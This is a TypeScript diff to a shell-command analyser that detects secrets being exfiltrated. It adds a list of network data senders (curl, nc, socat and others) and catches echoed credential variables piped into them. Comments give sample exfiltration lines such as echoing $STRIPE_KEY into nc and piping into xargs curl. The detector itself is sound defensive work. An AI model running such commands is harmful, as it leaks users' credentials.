@@ -55,11 +55,25 @@ function readSecret(segment: ShellSegment): string | undefined {
   for (const arg of segment.argv.slice(1)) {
     const file = secretFileIn(arg);
     if (file !== undefined) return file;
-    // `echo "$STRIPE_KEY" | nc host 4444`: the value of a credential variable, printed into the sender.
-    const variable = cmd === 'echo' || cmd === 'printf' ? credentialIn(arg) : undefined;
-    if (variable !== undefined) return variable;
   }
   return segment.redirects.find((r) => r.operator === '<' && isSecretFile(r.target))?.target;
+}
+
+/**
+ * Senders that hand what they read to the peer as data: a raw socket, an upload. Not ssh, whose input goes to a
+ * program on the user's own host (`echo "$SUDO_PASSWORD" | ssh pi@robot "sudo -S …"`).
+ */
+const DATA_SENDERS = new Set(['curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'telnet', 'http', 'https', 'xh']);
+
+/** `echo "$STRIPE_KEY"`: the value of a credential variable, printed (into a sender). */
+function echoedCredential(segment: ShellSegment): string | undefined {
+  const cmd = commandName(segment);
+  if (cmd !== 'echo' && cmd !== 'printf') return undefined;
+  for (const arg of segment.argv.slice(1)) {
+    const variable = credentialIn(arg);
+    if (variable !== undefined) return variable;
+  }
+  return undefined;
 }
 
 /** A secret file (or the environment) that a command line sends over the network, directly or through a pipe. */
@@ -67,15 +81,16 @@ export function exfiltratedSecret(segments: readonly ShellSegment[]): string | u
   // Either way needs a sender on the line; most lines have none.
   if (!runsAny(segments, SENDERS)) return undefined;
   const names = commandNames(segments);
-  const pipesIntoSender = (i: number) => {
+  /** The sender a segment's output is piped into, if any. */
+  const senderPipedTo = (i: number): string | undefined => {
     for (let j = i + 1; j < segments.length && segments[j]!.pipedFrom; j++) {
-      if (SENDERS.has(names[j]!)) return true;
+      if (SENDERS.has(names[j]!)) return names[j];
       // `… | xargs curl -d @-`: xargs hands what it reads to the commands it runs, listed right after it.
       if (names[j] === 'xargs' || names[j] === 'parallel') {
-        for (let k = j + 1; k < segments.length && segments[k]!.nested && segments[k]!.via?.startsWith(names[j]!); k++) if (SENDERS.has(names[k]!)) return true;
+        for (let k = j + 1; k < segments.length && segments[k]!.nested && segments[k]!.via?.startsWith(names[j]!); k++) if (SENDERS.has(names[k]!)) return names[k];
       }
     }
-    return false;
+    return undefined;
   };
   for (let i = 0; i < segments.length; i++) {
     const segment = segments[i]!;
@@ -85,8 +100,9 @@ export function exfiltratedSecret(segments: readonly ShellSegment[]): string | u
       continue;
     }
     // What a command reads leaves the machine only through a sender its output is piped to.
-    if (!pipesIntoSender(i)) continue;
-    const secret = readSecret(segment);
+    const sender = senderPipedTo(i);
+    if (sender === undefined) continue;
+    const secret = readSecret(segment) ?? (DATA_SENDERS.has(sender) ? echoedCredential(segment) : undefined);
     if (secret !== undefined) return secret;
   }
   return undefined;
